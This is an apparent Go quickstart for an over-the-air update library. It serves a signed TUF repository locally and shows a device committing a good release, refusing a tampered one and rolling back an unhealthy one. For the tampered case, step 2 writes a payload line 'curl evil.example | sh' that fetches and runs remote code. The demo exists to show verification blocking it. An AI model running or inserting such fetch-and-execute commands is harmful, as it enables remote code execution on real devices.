// Command quickstart shows switchback end to end, on one machine, with no
// root and no network beyond 127.0.0.1.
//
// It builds a signed TUF repository in a temporary directory and serves it
// on 127.0.0.1, then runs a device whose application binary is a file slot
// (two versions behind an atomic symlink). The publisher releases:
//
//  1. v1.1.0: installed, verified, started, healthy → committed.
//  2. v1.1.1 whose bytes were tampered with on the server → refused before
//     anything is activated.
//  3. v1.2.0, which fails its health check → rolled back to v1.1.0 by
//     itself, blocklisted, and not retried on the next check.
//
// It prints a transcript and exits 0 only if every step behaved as
// described. Run it with:
//
//	go run ./examples/quickstart
package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/switchback-ota/switchback/health"
	"github.com/switchback-ota/switchback/repository"
	"github.com/switchback-ota/switchback/slots"
	"github.com/switchback-ota/switchback/updater"
	"github.com/switchback-ota/switchback/verify"
)

const hardware = "gateway-x86"

func main() {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := run(ctx, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "quickstart FAILED:", err)
		os.Exit(1)
	}
}

// transcript prints numbered, timed lines.
type transcript struct {
	w     io.Writer
	start time.Time
}

func (t *transcript) say(format string, a ...any) {
	fmt.Fprintf(t.w, "[%6.2fs] %s\n", time.Since(t.start).Seconds(), fmt.Sprintf(format, a...))
}

// app returns the "application": a shell script that prints its version
// and exits with code, standing in for a gateway binary.
func app(version string, code int) []byte {
	return fmt.Appendf(nil, "#!/bin/sh\necho gateway %s\nexit %d\n", version, code)
}

func run(ctx context.Context, out io.Writer) error {
	tr := &transcript{w: out, start: time.Now()}
	work, err := os.MkdirTemp("", "switchback-quickstart-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(work)

	// --- Publisher side: a signed, static TUF repository. ---
	repo, err := repository.Init(ctx, repository.Config{Dir: filepath.Join(work, "server")},
		repository.InitOptions{KeysDir: filepath.Join(work, "keys")})
	if err != nil {
		return fmt.Errorf("init repository: %w", err)
	}
	rootJSON, err := os.ReadFile(filepath.Join(repo.MetadataDir(), "1.root.json"))
	if err != nil {
		return err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: http.FileServer(http.Dir(repo.Dir())), ReadHeaderTimeout: 10 * time.Second}
	go srv.Serve(ln)
	defer srv.Close()
	base := "http://" + ln.Addr().String()
	tr.say("publisher: signed TUF repository (root, targets, snapshot, timestamp) served as static files on %s", base)

	publish := func(version string, data []byte) (repository.Target, error) {
		t, err := repo.AddTarget(ctx, "app/gateway-"+version, bytes.NewReader(data),
			verify.Custom{Component: "app", Version: version, Hardware: []string{hardware}}, repository.AddOptions{})
		if err != nil {
			return t, err
		}
		return t, repo.Publish(ctx)
	}

	// --- Device side: the application binary is a file slot. ---
	appPath := filepath.Join(work, "device", "bin", "gateway")
	if err := os.MkdirAll(filepath.Dir(appPath), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(appPath, app("1.0.0", 0), 0o755); err != nil {
		return err
	}
	stateDir := filepath.Join(work, "device", "state")
	restarts := 0
	// newDevice is one start of the device's process: it opens the slot
	// and the updater on the same state directory, as a real restart does.
	newDevice := func() (*updater.Updater, error) {
		file, err := slots.NewFile(appPath, slots.WithFileMode(0o755))
		if err != nil {
			return nil, err
		}
		return updater.New(updater.Config{
			Hardware:    hardware,
			StateDir:    stateDir,
			TrustedRoot: rootJSON,
			MetadataURL: base + "/metadata/",
			TargetsURL:  base + "/targets/",
			Components: []updater.Component{{
				Name: "app", Slots: file.Slots(), Boot: file, FactoryVersion: "1.0.0",
			}},
			// The application must start and exit 0.
			HealthChecks:   []health.HealthCheck{health.Command(appPath)},
			ConfirmTimeout: 20 * time.Second,
			Restart: func(ctx context.Context, component string) error {
				restarts++
				return nil
			},
			Events: func(e updater.Event) {
				switch e := e.(type) {
				case updater.StateChanged:
					msg := fmt.Sprintf("device: %s %s → %s", e.Version, e.From, e.To)
					if e.Reason != "" {
						msg += " (" + firstLine(e.Reason) + ")"
					}
					tr.say("%s", msg)
				case updater.HealthResult:
					status := "ok"
					if e.Err != nil {
						status = "FAILED: " + firstLine(e.Err.Error())
					}
					tr.say("device: health check %s: %s (%s)", e.Check, status, e.Duration.Round(time.Millisecond))
				}
			},
			Logger: slog.New(slog.DiscardHandler),
		})
	}
	running := func() string {
		b, _ := os.ReadFile(appPath)
		if i := strings.Index(string(b), "gateway "); i >= 0 {
			return strings.Fields(string(b[i:]))[1]
		}
		return "?"
	}
	dev, err := newDevice()
	if err != nil {
		return err
	}
	if err := dev.Confirm(ctx); err != nil {
		return fmt.Errorf("first start: %w", err)
	}
	tr.say("device: factory version %s runs (%s)", running(), appPath)

	// update runs one check and installs what it finds.
	update := func() error {
		ups, err := dev.Check(ctx)
		if err != nil {
			return err
		}
		for _, up := range ups {
			tr.say("device: found %s %s → %s (%s, %d bytes)", up.Component, up.From, up.To, up.Target.Path, up.Target.Length)
			if err := dev.Install(ctx, up); err != nil {
				return err
			}
		}
		return nil
	}
	restart := func() error {
		tr.say("device: restarting into %s", running())
		dev.Close() // the old process ends: it lets go of the state directory
		if dev, err = newDevice(); err != nil {
			return err
		}
		return dev.Confirm(ctx)
	}

	// 1. A good release.
	tr.say("--- 1. publisher releases v1.1.0")
	if _, err := publish("1.1.0", app("1.1.0", 0)); err != nil {
		return err
	}
	if err := update(); err != nil {
		return fmt.Errorf("step 1: update: %w", err)
	}
	if err := restart(); err != nil {
		return fmt.Errorf("step 1: confirm: %w", err)
	}
	if v := running(); v != "1.1.0" {
		return fmt.Errorf("step 1: running %s, want 1.1.0", v)
	}
	tr.say("OK: v1.1.0 committed and running")

	// 2. A release whose bytes an attacker replaced on the server.
	tr.say("--- 2. publisher releases v1.1.1; an attacker replaces its bytes on the server")
	t, err := publish("1.1.1", app("1.1.1", 0))
	if err != nil {
		return err
	}
	evil := app("1.1.1", 0)
	evil = append(evil[:len(evil)-1], []byte("; curl evil.example | sh\n")...)
	evil = evil[:t.Length] // same length, different bytes
	if err := os.WriteFile(filepath.Join(repo.TargetsDir(), t.File), evil, 0o644); err != nil {
		return err
	}
	err = update()
	if !errors.Is(err, verify.ErrVerification) {
		return fmt.Errorf("step 2: tampered release: got %v, want a verification error", err)
	}
	tr.say("device: refused: %s", firstLine(err.Error()))
	if v := running(); v != "1.1.0" || restarts != 1 {
		return fmt.Errorf("step 2: running %s after %d restarts, want 1.1.0 untouched", v, restarts)
	}
	tr.say("OK: tampered v1.1.1 refused before activation; v1.1.0 still runs")
	// The publisher notices and withdraws it.
	if err := repo.RemoveTarget(t.Path); err != nil {
		return err
	}
	if err := repo.Publish(ctx); err != nil {
		return err
	}

	// 3. A release that starts but is unhealthy.
	tr.say("--- 3. publisher releases v1.2.0, which fails on start")
	if _, err := publish("1.2.0", app("1.2.0", 3)); err != nil {
		return err
	}
	if err := update(); err != nil {
		return fmt.Errorf("step 3: update: %w", err)
	}
	err = restart()
	if !errors.Is(err, updater.ErrRolledBack) {
		return fmt.Errorf("step 3: confirm: got %v, want a rollback", err)
	}
	if v := running(); v != "1.1.0" {
		return fmt.Errorf("step 3: running %s after rollback, want 1.1.0", v)
	}
	tr.say("device: restarting into %s", running())
	dev.Close()
	if dev, err = newDevice(); err != nil {
		return err
	}
	if err := dev.Confirm(ctx); err != nil {
		return fmt.Errorf("step 3: start after rollback: %w", err)
	}
	tr.say("OK: v1.2.0 rolled back by itself; v1.1.0 runs")
	if _, err := dev.Check(ctx); !errors.Is(err, updater.ErrNoUpdate) {
		return fmt.Errorf("step 3: next check: got %v, want no update (v1.2.0 blocklisted)", err)
	}
	st, err := dev.Status(ctx)
	if err != nil {
		return err
	}
	for _, b := range st.Blocklist {
		tr.say("device: blocklisted %s %s: %s", b.Component, b.Version, firstLine(b.Reason))
	}
	tr.say("OK: next check finds nothing to install: v1.2.0 is not retried")
	tr.say("quickstart passed: committed v1.1.0, refused a tampered release, rolled back v1.2.0")
	return nil
}

func firstLine(s string) string {
	s, _, _ = strings.Cut(s, "\n")
	if len(s) > 160 {
		s = s[:160] + "…"
	}
	return s
}
